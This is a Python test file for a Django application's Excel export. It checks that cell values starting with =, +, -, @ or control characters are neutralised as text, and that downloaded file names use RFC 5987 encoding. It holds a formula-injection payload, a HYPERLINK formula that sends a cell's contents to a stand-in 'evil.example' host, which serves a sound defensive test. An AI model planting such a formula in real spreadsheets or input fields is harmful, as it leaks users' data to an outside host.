"""The one workbook writer neutralises formulas; the one xlsx response names the file in RFC 5987 form."""

from __future__ import annotations

import io
from urllib.parse import quote

import pytest
from django.test import Client
from openpyxl import load_workbook

from tests.clients import client_for
from tests.factories import OrganisationFactory, member
from tests.vouchers import factories as vf
from xietong.core.actor import actor_for
from xietong.core.excel import XLSX_CONTENT_TYPE, Column, safe_value, write_workbook, xlsx_response
from xietong.core.roles import Role
from xietong.orgs.enums import OrgKind
from xietong.orgs.models import Organisation
from xietong.vouchers import services as voucher_services

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"点此查看")'


@pytest.mark.parametrize(
    "value, expected",
    [
        (EVIL, "'" + EVIL),
        ("+86 138", "'+86 138"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("嘉兴=南湖", "嘉兴=南湖"),
        ("a\x01b\x0bc", "abc"),  # characters XML cannot carry would make openpyxl raise mid-export
        (-5, -5),
        (2.5, 2.5),
        (None, None),
        (True, True),
    ],
)
def test_safe_value(value, expected):
    assert safe_value(value) == expected


def _cells(content: bytes, sheet: str | None = None) -> list[list]:
    book = load_workbook(io.BytesIO(content))
    return [list(row) for row in (book[sheet] if sheet else book.active).iter_rows()]


def test_written_text_is_never_a_formula_and_numbers_stay_numbers():
    columns = [Column("a", "名称"), Column("b", "数量")]
    content = write_workbook(title="测试", columns=columns, rows=[(EVIL, -3), ("=1+1", 1.5)])
    rows = _cells(content)
    assert [(c.value, c.data_type) for c in rows[1]] == [("'" + EVIL, "s"), (-3, "n")]
    assert [(c.value, c.data_type) for c in rows[2]] == [("'=1+1", "s"), (1.5, "n")]


def test_xlsx_response_names_the_file_in_rfc_5987_form():
    response = xlsx_response(b"PK", "机构名录.xlsx")
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == f"attachment; filename*=utf-8''{quote('机构名录.xlsx')}"
    assert xlsx_response(b"PK", "orders.xlsx")["Content-Disposition"] == 'attachment; filename="orders.xlsx"'


def _evil_organisation(bureau) -> int:
    client = client_for(bureau)
    response = client.post(
        "/api/v1/orgs",
        {"name": EVIL, "credit_code": "91330402MA2B3C4D1N", "kind": "企业", "region": "330402",
         "is_tech_sme": True},
        content_type="application/json",
    )  # fmt: skip
    assert response.status_code == 201, response.json()
    return response.json()["id"]


def _names_in(content: bytes) -> list[tuple]:
    return [(c.value, c.data_type) for row in _cells(content) for c in row if c.value and "HYPERLINK" in str(c.value)]  # fmt: skip


@pytest.mark.django_db
def test_a_formula_name_set_through_the_api_is_text_in_the_directory_order_and_grant_exports():
    # given an organisation named with a formula, entered through the API by its bureau
    bureau = member(Role.REGION_BUREAU, region_id="330400")
    org_id = _evil_organisation(bureau)
    admin = member(Role.ORG_ADMIN, organisation_id=org_id)
    evil = Organisation.objects.get(pk=org_id)
    lab = OrganisationFactory(name="上海徐汇检测技术研究院", region_id="310104", kind=OrgKind.TESTING)
    vf.order(provider=lab, customer=evil, quoted_fen=300_000)
    programme = vf.programme(actor=actor_for(bureau))
    application = voucher_services.application_submit(
        actor=actor_for(admin), programme_id=programme.pk, enterprise_id=org_id, amount_fen=1_000_000, purpose="检测"
    )  # fmt: skip
    voucher_services.application_review(actor=actor_for(bureau), application_id=application.pk, approve=True)
    bureau_client, admin_client = Client(), Client()
    bureau_client.force_login(bureau)
    admin_client.force_login(admin)
    # when the bureau and the firm export
    directory = bureau_client.get("/api/v1/orgs/export.xlsx", {"region": "330402"})
    orders = admin_client.get("/resources/orders/export.xlsx", {"side": "customer"})
    grants = bureau_client.get(f"/vouchers/programmes/{programme.pk}/grants.xlsx")
    # then the name is text beginning with an apostrophe in each, never a formula
    for response in (directory, orders, grants):
        assert response.status_code == 200
        assert _names_in(response.content) == [("'" + EVIL, "s")]
